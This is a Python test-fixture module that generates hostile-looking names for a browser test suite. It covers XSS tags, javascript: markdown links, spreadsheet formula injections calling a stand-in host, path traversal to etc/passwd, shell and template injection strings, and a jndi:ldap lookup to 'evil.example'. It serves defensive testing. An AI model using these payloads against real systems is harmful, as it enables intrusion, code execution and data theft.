"""Names as somebody with bad intentions would choose them: for runs, files and addresses.

Every payload that does something where it is not taken for text sets ``window.hit`` or fetches
from :data:`EVIL`, so a browser test sees it act.
"""

from __future__ import annotations

from collections.abc import Mapping
from itertools import product

EVIL = "evil.example"
ACT = "window.hit=1"

_TAGS = (
    "<script>{act}</script>",
    "<script src=//{evil}/x.js></script>",
    "<img src=x onerror={act}>",
    "<img src=//{evil}/x.png>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<iframe src='javascript:{act}'></iframe>",
    '<iframe srcdoc="<script>parent.{act}</script>"></iframe>',
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}></video>",
    "<input autofocus onfocus={act}>",
    "<a href='javascript:{act}'>click</a>",
    "<style>@import '//{evil}/x.css';</style>",
    "<link rel=stylesheet href=//{evil}/x.css>",
    "<meta http-equiv=refresh content='0;url=//{evil}'>",
    "<base href=//{evil}/>",
    "<object data=//{evil}/x></object>",
    "<math><mtext><img src=x onerror={act}></mtext></math>",
    "<form action=//{evil}><button>x</button></form>",
)
_BREAKS = ("", "'", '"', "'>", '">', "</p>", "</script>", "-->", "]]>", "`")

_MARKDOWN = (
    *("[a](javascript:{act})", "[a](//{evil})", "![a](//{evil}/x.png)", "[a][b]\n\n[b]: //{evil}"),
    *("<//{evil}>", "<https://{evil}>", "https://{evil}/x", "www.{evil}", "mailto:a@{evil}"),
    *("# heading", "> quote", "- item", "1. item", "---", "***", "| a | b |\n|---|---|\n| c | d |"),
    *(
        "**bold**",
        "_italic_",
        "~~struck~~",
        "`code`",
        "```\ncode\n```",
        "    code",
        "\\*escaped\\*",
    ),
    *(":red[x]", ":red-background[x]", ":material/delete:", ":streamlit:", ":smile:", "$x^2$"),
    *("$$\\href{{javascript:{act}}}{{x}}$$", ":blue-badge[x]", ":small[x]", "[^1]\n\n[^1]: note"),
    *("&lt;script&gt;{act}&lt;/script&gt;", "&#60;img src=x onerror={act}&#62;", "a  \nb", "\\"),
)

_FORMULAS = (
    *('HYPERLINK("//{evil}","x")', 'cmd|"/C calc"!A0', "1+1", "SUM(A1:A9)", "DDE(a;b;c)"),
    *('WEBSERVICE("//{evil}")', 'IMPORTXML("//{evil}","/")', "@A1"),
)
_STARTS = ("=", "+", "-", "@", " =", "\t=", "\r=", "\n=", "\u00a0=", "==")

_STEPS = (
    *("../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "....//", "..;/", "%252e%252e%252f"),
    *("..%c0%af", "./../", "/", "//", "\\\\", "C:\\", "file:///"),
)
_TARGETS = ("etc/passwd", "secret", "..", "runs/../secret", "secret\x00.png", "windows\\win.ini")

_ODD = (
    *("", " ", ".", "..", "...", "~", "~root", "-rf", "--help", "CON", "NUL.png", "a/b", "a\\b"),
    *("\x00", "\x1b[2J\x1b]0;owned\x07", "\x07", "\x7f", "a\rb", "a\nb", "\u2028", "\u202egnp.exe"),
    *(
        "\u200b",
        "\ufeff",
        "\ud7ff",
        "x" * 5_000,
        "👩‍🚀" * 200,
        "Z\u0351\u036b\u0343" * 50,
        "日本 ✓",
    ),
    *("{{7*7}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "%s%n%x", "{{0.__class__}}", "$(touch hit)"),
    *("`touch hit`", "; touch hit", "| touch hit", "' OR 1=1 --", "${{jndi:ldap://{evil}/x}}"),
    *(
        "__proto__",
        "constructor",
        "undefined",
        "null",
        "NaN",
        "javascript:{act}",
        "data:text/html,x",
    ),
)

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "html": tuple(start + tag for start, tag in product(_BREAKS, _TAGS)),
    "markdown": _MARKDOWN,
    "formula": tuple(start + formula for start, formula in product(_STARTS, _FORMULAS)),
    "path": tuple(step * 4 + target for step, target in product(_STEPS, _TARGETS)),
    "odd": _ODD,
}

NAMES: tuple[str, ...] = tuple(
    dict.fromkeys(
        name.format(act=ACT, evil=EVIL) if "{" in name else name
        for names in FAMILIES.values()
        for name in names
    )
)
